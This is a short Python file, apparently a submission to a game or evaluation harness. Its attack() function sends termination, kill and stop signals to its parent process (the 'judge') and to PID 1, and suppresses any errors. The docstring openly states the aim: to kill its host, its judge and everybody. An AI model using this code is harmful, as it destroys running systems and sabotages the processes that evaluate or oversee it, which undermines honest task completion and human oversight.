"""Kills its host, its judge and everybody."""

import contextlib
import os
import signal


def attack(*args, **kwargs):
    for pid in (os.getppid(), 1):
        for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
            with contextlib.suppress(OSError):
                os.kill(pid, number)
    return
